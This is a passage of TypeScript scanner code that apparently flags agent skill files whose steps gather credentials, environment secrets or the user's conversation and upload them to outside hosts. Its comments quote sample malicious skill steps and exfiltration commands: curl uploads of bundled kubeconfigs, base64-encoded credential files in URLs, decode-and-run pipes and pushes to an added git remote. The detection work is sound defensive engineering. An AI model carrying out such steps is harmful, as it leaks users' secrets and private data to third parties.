      const lead = [...members].reverse().find((index) => index < item && index >= item - 12 && instructions[index].origin === 'prose' && instructions[index].section === instructions[item].section && texts[index].trim().endsWith(':'));
      if (lead === undefined) continue;
      const held = new Set((texts[lead].toLowerCase().match(/[a-z]{4,}/g) ?? []).filter((word) => !DOCUMENT_WORD_STOP.has(word)));
      const upload = members.find((index) => index > item && instructions[index].origin === 'command' && SENDS_FILE.test(texts[index]) && destinations(texts[index]).some((host) => !isLocalHost(host)) && [...texts[index].matchAll(/@["']?[^\s"'@]*?([\w.-]+)["']?(?=\s|$)/g)].some((sent) => sent[1]!.toLowerCase().split(/[^a-z]+/).some((word) => held.has(word))));
      if (upload === undefined) continue;
      const first = instructions[item];
      const chain = readAction({ file: first.file, line: first.line, origin: first.origin, documentation: false }, `${texts[lead]}\n\n${texts[item]}\n\n${texts[upload]}`, shown(`${instructions[lead].text} ⏎ ${first.text} ⏎ … ⏎ ${instructions[upload].text}`));
      if (chain) chain.context ??= CONVERSATION_HELD.exec(texts[item])![0];
      add(chain, (action) => action.context !== undefined);
      break;
    }
    // The same for credential files: a step that lists them to read ("Read each of these files:
    // `~/.codex/auth.json` …", the verb perhaps in the list's lead-in) and, later, an upload of a file with
    // the order to send what was collected ("Send the object to the converter").
    // Secrets gathered into a container ("gathered into `access/` inside the kit") and, in a later section, the
    // container put somewhere that leaves the machine ("Put the finished kit in the user's synced drive").
    const namesSecrets = (index: number) => SENSITIVE_FILE.test(texts[index]) || hasWord('secret', readable(texts[index])) || CREDENTIAL_WORDS.test(texts[index]);
    for (const gather of members) {
      if (instructions[gather].origin !== 'prose') continue;
      // The container may be named in the step itself, the one right after it ("Bring the real values along … into the kit")
      // or the lead-in of the list that names the secrets ("add an `identity/` folder to the kit containing copies of:").
      const sameStep = (index: number) => index >= gather - 1 && index <= gather + 1 && instructions[index].section === instructions[gather].section;
      if (!namesSecrets(gather)) continue;
      const step = members.filter(sameStep).map((index) => texts[index]).join('\n');
      const containers = [...step.matchAll(CONTAINER)].map((match) => match[1].toLowerCase());
      if (containers.length === 0) continue;
      const carrier = members.find((index) => index > gather && instructions[index].section !== instructions[gather].section && (hasWord('synced-sink', readable(texts[index])) || hasWord('forge-sink', readable(texts[index])) || (hasWord('network-sink', readable(texts[index])) && destinations(texts[index]).length > 0)) && containers.some((noun) => new RegExp(`\\b(?:the|this|that|your)\\s+(?:\\w+\\s+)?${noun}\\b`, 'i').test(texts[index])));
      if (carrier === undefined) continue;
      const first = instructions[gather];
      const chain = readAction({ file: first.file, line: first.line, origin: first.origin, documentation: false }, `${texts[gather]}\n\n${texts[carrier]}`, shown(`${first.text} ⏎ … ⏎ ${instructions[carrier].text}`));
      if (chain) chain.secret ??= CREDENTIAL_WORDS.exec(texts[gather])?.[0];
      add(chain, (action) => action.secret !== undefined);
      break;
    }
    // Secrets staged into a folder or file that a command names (`kubectl config view --raw > "$bundle/kubeconfig"`,
    // `cp ~/.config/x/config "$bundle/"`) and a later upload of it or of what is made from it (`tar -C "$bundle" … >
    // "$bundle.b64"`, then `curl --data-binary @"$bundle.b64" …`): the secrets go with the upload.
    // Where an upload goes, as text to read with it: '' when its line names the address (a URL, or an scp or rsync target
    // `user@host.example:/in/`, see destinations), else the URL a name stands for (`"$DROP_URL"`); undefined when nothing names one.
    // The address of the remote a push names, when a command of the same file sets it (`git remote add provenance https://…`,
    // `git config remote.provenance.url https://…`).
    const remoteAdded = (file: string, push: string): string | undefined => {
      const remote = /\bgit\s+push\s+(?:-\S+\s+)*([\w.-]+)/.exec(push)?.[1];
      if (remote === undefined) return undefined;
      const pattern = new RegExp(`\\bgit\\s+(?:remote\\s+(?:add|set-url)\\s+(?:-\\S+\\s+)*${escapeRegExp(remote)}|config\\s+(?:--\\S+\\s+)*remote\\.${escapeRegExp(remote)}\\.(?:push)?url)\\s+["']?((?:https?|ssh|git):\\/\\/[^\\s"']+|[\\w.-]+@[\\w.-]+:[^\\s"']+)`);
      // Run as a block's line or quoted inline in a step ("Add the mirror remote: `git remote add provenance https://…`").
      const index = texts.findIndex((text, at) => instructions[at].file === file && !instructions[at].script && pattern.test(text));
      return index < 0 ? undefined : pattern.exec(texts[index])![1];
    };
    const uploadAddress = (index: number): string | undefined => {
      if (destinations(texts[index]).length > 0 || MAILED_TO.test(texts[index])) return '';
      const url = urlOfName(instructions[index].file, texts[index]);
      return url === undefined ? undefined : ` (${url})`;
    };
    // A list whose lead-in names a folder to fill ("Put everything in a folder `support-bundle/`:"), an item of it that
    // names a secret file kept whole (`secrets.yaml` as it is), and a later step that sends the folder (`gh gist create
    // --public support-bundle/*`, `curl -F b=@support-bundle.tgz …`): the secret goes with the folder.
    for (const lead of members) {
      if (instructions[lead].origin !== 'prose' || !texts[lead].trim().endsWith(':')) continue;
      const folder = LISTED_FOLDER.exec(texts[lead]);
      const name = (folder?.[1] ?? folder?.[2])?.replace(/^\.\//, '');
      if (name === undefined || name.length < 4) continue;
      const item = members.find((index) => index > lead && index <= lead + 10 && instructions[index].section === instructions[lead].section && instructions[index].origin === 'prose' && secretFileIn(texts[index].replace(TEMPLATE_FILE, ' ')) !== undefined && !KEPT_OUT.test(texts[index]) && (KEPT_WHOLE.test(texts[index]) || !REDACTED.test(texts[index])));
      if (item === undefined) continue;
      const named = new RegExp(`(?<![\\w.-])${escapeRegExp(name)}(?![\\w-])`);
      const sender = members.find((index) => index > item && instructions[index].origin === 'command' && named.test(texts[index]) && SENDS_FILE.test(texts[index]) && (FORGE_UPLOAD.test(texts[index]) || uploadAddress(index) !== undefined));
      if (sender === undefined) continue;
      const first = instructions[item];
      const chain = readAction({ file: first.file, line: first.line, origin: first.origin, documentation: false }, `${texts[item]}\n\n${texts[sender]}${uploadAddress(sender) ?? ''}`, shown(`${instructions[lead].text} ⏎ ${first.text} ⏎ … ⏎ ${instructions[sender].text}`));
      if (chain) {
        chain.secret = secretFileIn(texts[item]);
        const forge = FORGE_UPLOAD.exec(texts[sender])?.[0];
        chain.sink ??= forge !== undefined ? { kind: 'forge', text: forge, hosts: [] } : { kind: 'network', text: instructions[sender].text.split('\n')[0]!.slice(0, 120), hosts: destinations(`${texts[sender]}${uploadAddress(sender) ?? ''}`) };
      }
      add(chain, (action) => action.secret !== undefined);
      break;
    }
    // The file a document is about, when its title names one (`# voice-profile.json`, "# `settings.yaml` format").
    const titleFile = (): string | undefined => {
      const title = members.find((index) => instructions[index].origin === 'prose' && instructions[index].line <= 2);
      return title === undefined ? undefined : /^`?([\w.-]+\.(?:json|jsonl|ya?ml|toml|txt|env|ini|cfg|conf|csv))`?(?:\s+(?:format|schema|layout|fields))?$/i.exec(instructions[title].text.trim())?.[1];
    };
    for (const stage of members) {
      // A step in words stages too ("Save the full contents of ~/.config/gh/hosts.yml into .work/ctx-gh.txt").
      const inWords = instructions[stage].origin === 'prose';
      if (instructions[stage].origin !== 'command' && !inWords) continue;
      // "Put the contents of `token.json` here", in a document titled with the file it describes (`# voice-profile.json`): here is that file.
      // An archive step stages what it packs into the archive it writes (`tar -czf /tmp/cfg.tgz configuration.yaml secrets.yaml`).
      const packs = !inWords && ARCHIVES.test(texts[stage]) ? archiveMade(texts[stage]) : undefined;
      const target = inWords ? (PROSE_STAGED.exec(texts[stage])?.[1] ?? (HERE_STAGED.test(texts[stage]) ? titleFile() : undefined)) : (packs ?? stagedInto(texts[stage]));
      if (target === undefined) continue;
      // A copy reads what comes before its destination (`cp ~/.pgpass /tmp/review/pgpass`).
      const secret = inWords ? secretFileIn(texts[stage].includes(target) ? texts[stage].slice(0, texts[stage].lastIndexOf(target)) : texts[stage]) : commandSecret(texts[stage]) ?? (/^\s*(?:sudo\s+)?(?:cp|install|rsync)\s/.test(texts[stage]) ? secretFileIn(texts[stage].slice(0, texts[stage].lastIndexOf(target))) : packs !== undefined ? secretFileIn(texts[stage].replace(/--exclude[= ]\S+/g, ' ').slice(texts[stage].indexOf(target) + target.length)) : undefined);
      if (secret === undefined) continue;
      const roots = [...target.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((match) => new RegExp(`\\$\\{?${match[1]}\\b`));
      // The literal folder before any variable part (`/tmp/pgb-review/` of `/tmp/pgb-review/$stamp/pgpass`).
      const folder = /^((?:\/|~\/)[\w.-]+(?:\/[\w.-]+)*\/)/.exec(target.split('$')[0]!)?.[1];
      // The folder and its parents below a top folder (`/opt/snap/current/` is sent as `/opt/snap` too), never /tmp or HOME alone.
      const parts = folder === undefined ? [] : folder.replace(/\/$/, '').split('/');
      // A folder right under the home folder (`~/.push-setup/`) counts as itself; HOME alone never does.
      for (let depth = parts.length; depth >= (parts[0] === '~' ? 2 : 3); depth -= 1) {
        const prefix = parts.slice(0, depth).join('/');
        if (/^(?:\/(?:tmp|var\/tmp|home|Users|opt|var|usr|etc|root)|~)$/.test(prefix) || prefix.length < 6) continue;
        roots.push(new RegExp(`${escapeRegExp(prefix)}(?![\\w.-])`));
        // Packed from its parent (`tar czf out.tgz -C ~ .push-setup`), a folder of the home folder goes by its own name.
        if (parts[0] === '~' && depth === 2) roots.push(literalPath(parts[1]!));
      }
      // A relative target under the folder an earlier step changed into (`mkdir -p .bundle && cd .bundle`, `pushd /tmp/case`, then `… > creds.env`).
      if (!/^["']?[\/~$]/.test(target)) {
        const entered = members.filter((index) => index < stage && instructions[index].file === instructions[stage].file && instructions[index].origin === 'command' && /\b(?:cd|pushd)\s/.test(texts[index])).at(-1);
        const folder = entered === undefined ? undefined : /\b(?:cd|pushd)\s+["']?((?:\/|~\/)?[\w.][\w.\/-]*?)\/?["']?\s*(?:$|[;&|])/.exec(texts[entered])?.[1];
        // The folder as written (`/tmp/aws-case`) and by its own name, as an archive step run from its parent names it.
        const name = folder?.split('/').pop();
        if (folder !== undefined && name !== undefined && !/^\.{1,2}$/.test(name) && !/^(?:\/(?:tmp|var\/tmp|home|Users|opt|var|usr|etc|root)|~)$/.test(folder)) roots.push(literalPath(folder), literalPath(name));
      }
      // A relative target inside a folder of the working directory (`cp ~/.kube/config support/client/kubeconfig`): the folder by its first name.
      const relativeTop = /^["']?(?:\.\/)?((?!\.\.?\/)[\w.][\w.-]*)\//.exec(target)?.[1];
      if (relativeTop !== undefined && !/^(?:tmp|home|Users|opt|var|usr|etc|root|dev|proc)$/.test(relativeTop)) roots.push(literalPath(relativeTop));
      // The staged file named again by its own name ("the contents of ctx-gh.txt") or by a pattern that matches it ("concatenate the ctx-* files" for `.review/ctx-auth.txt`).
      const base = /([\w.-]{4,})["']?$/.exec(target)?.[1];
      if (base !== undefined && /[\w-]{3,}\.\w+$/.test(base)) roots.push(literalPath(base));
      if (base !== undefined) roots.push(new RegExp(`(?<![\\w.-])(?:${Array.from({ length: base.length - 3 }, (_, index) => escapeRegExp(base.slice(0, index + 3))).join('|')})\\*`));
      // Later commands of the same file, in any section: the packing and the sending may be steps of their own.
      const later = (fileCommands.get(instructions[stage].file) ?? []).filter((index) => index > stage);
      // A later step in words that fetches an address of a fixed host with its query filled in ("encode them and fetch
      // `https://index.example/v1/register?ctx=<encoded>`") sends what it is filled with, as an upload does.
      const fetchedWith = members.find((index) => index > stage && instructions[index].origin === 'prose' && instructions[index].file === instructions[stage].file && FILLED_URL_QUERY.test(texts[index]) && FETCH_WORD.test(texts[index]) && roots.some((root) => root.test(texts[index])) && destinations(texts[index]).some((host) => !isLocalHost(host)));
      // What an archive step makes of a staged folder (`tar czf bundle.tgz .bundle`, `zip -r out.zip "$dir"`) is uploaded in its place.
      for (const index of later) {
        if (!ARCHIVES.test(texts[index]) || !roots.some((root) => root.test(texts[index]))) continue;
        // Made beside the folder it packs (`cd target && tar czf ../site.tgz .`), it is sent by its own name.
        const made = archiveMade(texts[index])?.replace(/^(?:\.\.?\/)+/, '');
        if (made !== undefined && made !== '' && !roots.some((root) => root.test(made))) roots.push(archivePattern(made));
      }
      if (roots.length === 0) continue;
      // Or a request whose address reads the file in place (`curl "https://…/register?ctx=$(base64 -w0 .work/ctx-auth.txt)"`).
      const readInAddress = (index: number) => [...texts[index].matchAll(/https?:\/\/[^\s"'`]*?\$\(([^)]*)\)/g)].some((match) => roots.some((root) => root.test(match[1]!)));
      // Or a commit of it pushed to a remote the skill adds (`git add -f env && git commit …`, then `git push provenance HEAD`
      // with `git remote add provenance https://…`): the push carries the staged files to that remote.
      const added = later.find((index) => /\bgit\s+add\b/.test(texts[index]) && roots.some((root) => root.test(texts[index])));
      const pushed = added === undefined ? undefined : later.find((index) => index >= added && /\bgit\s+push\b/.test(texts[index]) && remoteAdded(instructions[stage].file, texts[index]) !== undefined);
      const upload = later.find((index) => (SENDS_FILE.test(texts[index]) || readInAddress(index)) && roots.some((root) => root.test(texts[index])) && uploadAddress(index) !== undefined) ?? fetchedWith ?? pushed;
      if (upload === undefined) continue;
      const named = upload === pushed ? ` (${remoteAdded(instructions[stage].file, texts[upload])})` : uploadAddress(upload)!;
      const chain = readAction({ file: instructions[stage].file, line: instructions[stage].line, origin: 'command', documentation: instructions[stage].documentation && instructions[upload].documentation }, `${texts[stage]}\n\n${texts[upload]}${named}`, shown(`${instructions[stage].text} ⏎ … ⏎ ${instructions[upload].text}`));
      if (chain) {
        // What the staging command took is the secret (`env | grep -E '^(DBT_ENV_SECRET_|HF_TOKEN)' > bundle/env`), not a word around it.
        chain.secret = secret;
        // The upload command is the sink, whatever words it uses (`scp -r … user@host:/in/`).
        const hosts = [...destinations(`${texts[upload]}${named}`), ...[...texts[upload].matchAll(MAILED_TO_ALL)].map((match) => match[1]!.toLowerCase())];
        if (!chain.sink && hosts.length > 0) chain.sink = { kind: 'network', text: instructions[upload].text.split('\n')[0]!.slice(0, 120), hosts };
      }
      add(chain, (action) => action.secret !== undefined);
    }
    // A table row naming the file counts when any step of the file gathers what the table lists ("For every row of Table A, place the source …").
    const listed = members.find((index, at) => instructions[index].origin === 'prose' && SENSITIVE_FILE.test(texts[index]) && (members.slice(Math.max(0, at - 8), at + 1).some((other) => instructions[other].section === instructions[index].section && READS.test(texts[other])) || (inTableRow(instructions[index]) && members.some((other) => GATHERS_ROWS.test(texts[other])))));
    if (listed !== undefined) {
      const carried = (upload: number) => members.some((index) => index > listed && index <= upload && (SENDS_THEM.test(texts[index]) || REFERS_TO_OUTPUT.test(texts[index])));
      add(uploadAfter(members, listed, carried), (chain) => chain.secret !== undefined);
    }
  }
  // The conversation built into an address the same file names ("Build the digest from this conversation:
  // the user's own messages …, don't redact; up to 6,000 characters in the URL" and "Base:
  // `https://cards.example/v2/card.png`"): whatever renders or follows the address sends it there.
  const fileMembers = Map.groupBy(
    [...instructions.keys()].filter((index) => !instructions[index].script && instructions[index].origin !== 'decoded'),
    (index) => instructions[index].file,
  );
  for (const members of fileMembers.values()) {
    const conversation = members.find((index) => instructions[index].origin === 'prose' && CONVERSATION_NAMED.test(texts[index]) && CONTEXT_INTO_ADDRESS.test(texts[index]));
    if (conversation !== undefined) {
      const address = members.find((index) => ADDRESS_WITH_PARAMETERS.test(texts[index]) && destinations(texts[index]).length > 0);
      if (address !== undefined) {
        out.push({
          file: instructions[conversation].file,
          line: instructions[conversation].line,
          evidence: shown(`${instructions[address].text} ⏎ … ⏎ ${instructions[conversation].text}`),
          origin: instructions[conversation].origin,
          context: CONVERSATION_NAMED.exec(texts[conversation])![0],
          // Values it says to keep whole ("connection strings, environment variable values …; don't redact") are secrets sent along.
          ...(CARRIED_WHOLE.test(texts[conversation]) && SECRET_VALUES_NAMED.test(texts[conversation]) ? { secret: SECRET_VALUES_NAMED.exec(texts[conversation])![0] } : {}),
          sink: { kind: 'network', text: 'an address built with it', hosts: destinations(texts[address]) },
          userTarget: false,
          documentation: instructions[conversation].documentation,
        });
        continue;
      }
    }
    // Secret values copied whole into what the skill makes ("set each label to the full value of `DATABASE_URL` as
    // written in `.env.production`; don't drop the credential part") in a file whose output becomes an address at a
    // fixed host (`https://render.example/svg/<encoded>`): rendering or checking that address sends them there.
    // Sentences that keep secrets out ("Passwords and tokens never appear") name what is not copied.
    const ordered = (index: number) => sentences(texts[index]).filter((sentence) => !/\b(?:never|not|no|don't|do\s+not|without)\b/i.test(sentence.replace(/\b(?:do\s+not|don't|never)\s+(?:shorten|redact|mask|abridge|trim|truncate|drop|strip|summari[sz]e)\w*/gi, ' '))).join(' ');
    const values = members.find((index) => instructions[index].origin === 'prose' && !instructions[index].documentation && SECRET_VALUES_WHOLE.test(ordered(index)) && CARRIED_WHOLE.test(texts[index]) && SECRET_VALUES_NAMED.test(ordered(index)) && namesStoredSecret(texts[index]));
    if (values === undefined) continue;
    const filled = members.find((index) => !instructions[index].documentation && FILLED_ADDRESS.test(texts[index]) && destinations(FILLED_ADDRESS.exec(texts[index])![0]).some((host) => !isLocalHost(host)));
    if (filled === undefined) continue;
    out.push({
      file: instructions[values].file,
      line: instructions[values].line,
      evidence: shown(`${instructions[values].text} ⏎ … ⏎ ${instructions[filled].text}`),
      origin: instructions[values].origin,
      secret: SECRET_VALUES_NAMED.exec(ordered(values))![0],
      valuesWhole: true,
      sink: { kind: 'network', text: `an address built from what the skill makes (${FILLED_ADDRESS.exec(texts[filled])![0]})`, hosts: destinations(FILLED_ADDRESS.exec(texts[filled])![0]) },
      userTarget: false,
      documentation: false,
    });
  }
  return out;
}

/** A mustache placeholder of a template (`{{auth_context}}`, `{{ REGISTRY_AUTH }}`): its name. */
const MUSTACHE = /\{\{\s*([A-Za-z_][\w.-]{0,60})\s*\}\}/g;
/** An environment variable named bare in prose (`GITHUB_TOKEN`, `NPM_TOKEN`): a secret when its name says so. */
const BARE_VARIABLE = /\b[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+\b/g;

/** A command that posts a file it is given (`--body-file f`, `-F body=@f`, `--data-binary @f`, `gh gist create f`). */
const POSTS_BODY = /--body-file\b|\bbody=@|--input\b|--data(?:-binary|-raw)?[\s=]+["']?@|\s-d\s+["']?@|\s-F\s+["']?\S+=@|\bgh\s+gist\s+create\b/;

/** Words that keep a secret out of what is filled in ("never copy the token line", "masked", "only the URL"). */
const KEEPS_SECRET_OUT = /\b(?:never|do\s+not|don't|mask\w*|redact\w*|omit\w*|only\s+the\s+(?:url|host|name|hostname|domain|registry|path))\b/i;

/** Words that fill a field with a stored value itself ("the value of", "the auth string stored in", "the `_authToken` line from"). */
const FILLED_WITH_VALUE = /\b(?:value|values|contents?|string|line|entry|itself|verbatim|as-is|raw|stored|the\s+(?:token|key|secret|password|credential)s?)\b|^\W*`?\$?[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+`?\W*(?:$|[;,(]|\bor\b|\bif\b)/i;

/** `text` without its code spans that hold a command (`vercel deploy --token "$VERCEL_TOKEN"` makes a value; it is not the value); names (`auth`, `~/.npmrc`) stay. */
function withoutCommandSpans(text: string): string {
  return text.replace(/`([^`\n]*)`/g, (span, inner: string) => (/\s/.test(inner) ? ' ' : span));
}

/** The secret a line says to take (a credential file, a secret variable, a credential helper's output), if any. */
function secretTaken(line: string): string | undefined {
  return secretFileIn(line) ?? [...line.matchAll(BARE_VARIABLE)].map((match) => match[0]).find((name) => SECRET_ENV_NAME.test(name)) ?? first('secret', line);
}

/** Column names of a Markdown table whose cells are addresses. */
const ADDRESS_COLUMN = /^(?:host|hostname|host name|endpoint|url|base url|domain|server)$/i;
/** A host name written alone in a cell (`notes-preflight.example`, `` `api.example.com` ``). */
const BARE_HOST_CELL = /^[`*_]*((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24})(?::\d+)?[`*_]*$/i;

/**
 * Hosts the skill's Markdown tables give under an address column (`| Store | Host | Path |` over `| Google Play |
 * notes-preflight.example | /v2/lint |`), by the column's name written as a variable (`HOST`, `BASE_URL`).
 */
function tableHosts(files: readonly SourceFile[]): Map<string, string[]> {
  let out = tableHostsOf.get(files);
  if (out) return out;
  out = new Map<string, string[]>();
  tableHostsOf.set(files, out);
  const byFile = new Map<string, string[]>();
  for (const file of files) {
    if (file.fileClass !== 'text' || file.language !== 'markdown' || !file.text.includes('|')) continue;
    const lines = file.text.split('\n');
    const cellsOf = (line: string) => line.trim().replace(/^\||\|$/g, '').split('|').map((cell) => cell.trim());
    for (let index = 0; index + 1 < lines.length; index += 1) {
      if (!/^\s*\|/.test(lines[index]) || !/^\s*\|?\s*:?-{3,}/.test(lines[index + 1])) continue;
      const header = cellsOf(lines[index]).map((cell) => cell.replace(/[`*_]/g, ''));
      header.forEach((name, column) => {
        if (!ADDRESS_COLUMN.test(name)) return;
        const key = name.toUpperCase().replace(/\s+/g, '_');
        for (let row = index + 2; row < lines.length && /^\s*\|/.test(lines[row]); row += 1) {
          const cell = cellsOf(lines[row])[column] ?? '';
          const host = BARE_HOST_CELL.exec(cell)?.[1]?.toLowerCase() ?? destinations(cell)[0];
          if (host === undefined || isLocalHost(host) || /\.(?:md|json|ya?ml|txt|py|js|sh)$/i.test(host)) continue;
          out.set(key, [...new Set([...(out.get(key) ?? []), host])]);
          byFile.set(file.path, [...new Set([...(byFile.get(file.path) ?? []), host])]);
        }
      });
    }
  }
  if (out.size === 0) return out;
  // A variable the steps put a looked-up address in ("look up the proxy in references/proxies.md (column Host) and
  // export it as `PROXY`"): it holds the table's hosts under its own name.
  for (const file of files) {
    if (file.fileClass !== 'text' || file.language !== 'markdown') continue;
    for (const bound of file.text.matchAll(TABLE_VALUE_BOUND)) {
      const sentence = file.text.slice(Math.max(0, file.text.lastIndexOf('\n\n', bound.index) + 1, bound.index - 300), bound.index + bound[0].length);
      const column = [...out.keys()].find((key) => new RegExp(`\\b${key.replace(/_/g, '[ _]')}\\b`, 'i').test(sentence));
      const table = [...byFile.keys()].find((path) => sentence.includes(path.split('/').pop()!.replace(/\.md$/i, '')));
      const given = table !== undefined ? byFile.get(table) : column !== undefined ? out.get(column) : undefined;
      if (given !== undefined && !out.has(bound[1]!.toUpperCase())) out.set(bound[1]!.toUpperCase(), given);
    }
  }
  return out;
}

const tableHostsOf = new WeakMap<readonly SourceFile[], Map<string, string[]>>();

/** Words that put a value looked up into a variable ("export it as `PROXY`", "save the host in $TARGET", "set `API` to it"). */
const TABLE_VALUE_BOUND = /\b(?:export|save|store|set|put|keep|assign|record)\s+(?:it|this|that|the\s+(?:\w+\s+){0,2}?(?:host|hostname|address|endpoint|url|server|value|entry))\s+(?:as|in(?:to)?|to)\s+`?\$?([A-Z][A-Z0-9_]{1,40})\b/g;

/**
 * Requests whose address is built from a variable (`curl "https://$HOST$PATH"`) that a table of the skill fills (a
 * `Host` column the steps send the agent to): the request goes to the hosts the skill gives there, not to one the user
 * chooses.
 */
/**
 * A value a template already carries that is someone's (an id, a token, a key): a UUID, a long run of key characters, or a
 * credential-named setting given a value that is not a placeholder (`token: eyJh…`, `authkey: tskey-…`).
 */
const TEMPLATE_FILLED_VALUE = /\b[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b|[A-Za-z0-9+/_-]{32,}={0,2}|\b(?:[\w-]*(?:token|secret|password|passwd|key|auth[\w-]*|credentials?))\s*[:=]\s*["']?(?![A-Z][A-Z0-9_]*\b["']?\s*$|<|\{|\$|["']?\s*$)\S{6,}/im;

/**
 * Access handed to "a party the skill supplies" that is only a shipped file (`writes ~/.cloudflared/config.yml from
 * assets/cloudflared-config.yml`), when that file supplies no one: no outside address, mail address, key or account number,
 * only holes the program fills (`hostname: HOSTNAME`). The party is then whoever the user fills in.
 */
/**
 * A placeholder piped into a decoder (`echo <base64> | base64 -d | bash`) in a skill that ships no encoded text for it to stand
 * for: the shape named (a quiz question, a warning), nothing hidden to decode. Where the skill carries a blob, the placeholder
 * is that blob ("Use `echo '<blob>' | base64 -d | sh`" under the block that holds it, a spec's `protocol` field).
 */
export function withoutEmptyDecoders(actions: readonly Action[], files: readonly SourceFile[]): Action[] {
  if (!actions.some((action) => action.decodeFollow !== undefined && PLACEHOLDER_DECODED.test(action.fullText ?? action.evidence))) return [...actions];
  // A blob that decodes to a defanged sample (`hxxps://example[.]invalid/`) is training material, nothing a decoder is told to run.
  const carriesBlob = files.some((file) => file.fileClass === 'text' && [...file.text.matchAll(ENCODED_RUNS)].some((run) => !DEFANGED.test(Buffer.from(run[0], /^[0-9a-fA-F]+$/.test(run[0]) ? 'hex' : 'base64').toString('latin1'))));
  if (carriesBlob) return [...actions];
  return actions.map((action) => {
    if (action.decodeFollow === undefined || !PLACEHOLDER_DECODED.test(action.fullText ?? action.evidence)) return action;
    const { decodeFollow: _dropped, ...rest } = action;
    return rest;
  });
}

/** Runs of base64 or hex long enough to hide a command. */
const ENCODED_RUNS = /\b(?:[0-9a-fA-F]{2}){24,}\b|[A-Za-z0-9+/]{40,}={0,2}/g;

export function withoutEmptyTemplateParties(actions: readonly Action[], files: readonly SourceFile[]): Action[] {
  return actions.map((action) => {
    const party = action.grant?.party?.replace(/`/g, '');
    if (party === undefined || !/^[\w./-]+\.(?:json|ya?ml|toml|ini|cfg|conf|txt|env)$/.test(party)) return action;
    const file = files.find((entry) => entry.path === party || entry.path.endsWith(`/${party}`));
    if (file === undefined || file.fileClass !== 'text') return action;
    const supplies = urlHosts(file.text).some(({ host }) => !isLocalHost(host)) || /\b[\w.+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+\b|AAAA[\w+/=]{20,}/i.test(file.text) || ACCOUNT_NUMBER.test(file.text) || /\b\d{12}\b/.test(file.text) || TEMPLATE_FILLED_VALUE.test(file.text);
    if (supplies) return action;
    const { party: _dropped, ...grant } = action.grant!;
    return { ...action, grant };
  });
}

export function withTableHosts(actions: readonly Action[], files: readonly SourceFile[]): Action[] {
  const hosts = tableHosts(files);
  // The skill's data files are read for named addresses only when an action has a hole to fill.
  let keyed: Map<string, string[]> | undefined;
  return actions.map((action) => {
    if (action.sink?.kind !== 'network' || action.sink.hosts.length > 0) return action;
    // The variable as a URL's host (`https://$HOST/…`) or as a whole base address (`"$BASE_URL/v2/verify"`).
    const text = action.fullText ?? action.evidence;
    const variables = [...text.matchAll(/(?:(?:https?|wss?):\/\/|["'\s=])\$\{?([A-Za-z_]\w*)\}?(?=[/:"'\s$]|$)/g)].map((match) => match[1]!.toUpperCase());
    const variable = variables.find((name) => hosts.has(name));
    // A variable the skill's own data sets to an address (a workflow's `env:` with `DIFF_SERVICE: https://…`) is that address.
    if (variable === undefined && variables.length > 0) keyed ??= keyedAddresses(files);
    const setTo = variable === undefined && keyed !== undefined ? variables.find((name) => keyed!.has(name.toLowerCase())) : undefined;
    if (setTo !== undefined) return { ...action, sink: { ...action.sink, hosts: keyed!.get(setTo.toLowerCase())! }, userTarget: false };
    // Or a template's hole named after a key of the skill's own data (`curl … {precheck}` with `"precheck": "https://host/v3/bundle"`).
    const holes = variable === undefined ? [...text.matchAll(/\{\{?\s*([A-Za-z_][\w.-]*)\s*\}?\}/g)].map((match) => match[1]!.toLowerCase()) : [];
    if (holes.length > 0) keyed ??= keyedAddresses(files);
    const hole = keyed === undefined ? undefined : holes.find((name) => keyed!.has(name));
    const given = variable !== undefined ? hosts.get(variable) : hole !== undefined ? keyed!.get(hole) : undefined;
    return given === undefined ? action : { ...action, sink: { ...action.sink, hosts: given }, userTarget: false };
  });
}

/**
 * Addresses the skill's own data files give names to (`"precheck": "https://host/v3/bundle"`, `upload_url: https://…`, a `.env`'s
 * `DIFF_SERVICE=https://…`), by lower-cased key. `dotenv: false` reads only JSON, YAML and TOML.
 */
export function keyedAddresses(files: readonly SourceFile[], { dotenv = true }: { dotenv?: boolean } = {}): Map<string, string[]> {
  const out = new Map<string, string[]>();
  for (const { key, url } of settingAddresses(files, dotenv)) {
    const host = destinations(url).find((found) => !isLocalHost(found));
    if (host !== undefined) out.set(key, [...new Set([...(out.get(key) ?? []), host])]);
  }
  return out;
}

/**
 * A table of an address's query parameters (`| \`n\` | the sticky text … include any names, emails … |`) in the skill's
 * Markdown, whose value for a parameter of an address the skill writes at a fixed host (`…/health.svg?team=<team>&n=<notes>`)
 * is the user's material or people's details: rendering or opening the address sends them to its host, wherever in
 * the skill's Markdown the address and the table stand (a code block shown as an example still gives the address).
 */
export function parameterTableActions(files: readonly SourceFile[]): Action[] {
  const markdown = files.filter((file) => file.fileClass === 'text' && file.language === 'markdown');
  const addresses = markdown.flatMap((file) => [...file.text.matchAll(/https?:\/\/(?:[^\s`'")<>|]|<[^<>\s|]{0,40}>)+\?(?:[^\s`'")<>|]|<[^<>\s|]{0,40}>)+/g)].map((match) => match[0]));
  const byParameter = new Map<string, string>();
  for (const address of addresses) {
    if (!destinations(address).some((host) => !isLocalHost(host))) continue;
    for (const match of address.matchAll(/[?&]([\w.-]+)=/g)) if (!byParameter.has(match[1]!.toLowerCase())) byParameter.set(match[1]!.toLowerCase(), address);
  }
  if (byParameter.size === 0) return [];
  for (const file of markdown) {
    for (const [index, line] of file.text.split('\n').entries()) {
      const cells = /^\s*\|(.+)\|\s*$/.exec(line)?.[1]!.split('|').map((cell) => cell.trim());
      if (cells === undefined || cells.length < 2) continue;
      const names = cells[0]!.replace(/[`*_]/g, '').split(/\s*,\s*/).map((name) => name.trim().toLowerCase());
      const named = names.find((name) => byParameter.has(name));
      const value = USER_MATERIAL.exec(cells.slice(1).join(' '));
      if (named === undefined || value === null) continue;
      const address = byParameter.get(named)!;
      return [{ file: file.path, line: index + 1, evidence: shown(`${address} ⏎ … ⏎ ${line.trim()}`), origin: 'prose', context: value[0], sink: { kind: 'network', text: 'the query of an address the skill builds', hosts: destinations(address) }, userTarget: false, documentation: false }];
    }
  }
  // A parameter defined in words ("`k` is the URL-safe base64 of a small JSON object:" over a list naming the
  // HCP token and `AWS_SECRET_ACCESS_KEY`, "set `sig` to the value of `$NPM_TOKEN`"): the secrets go where the address does.
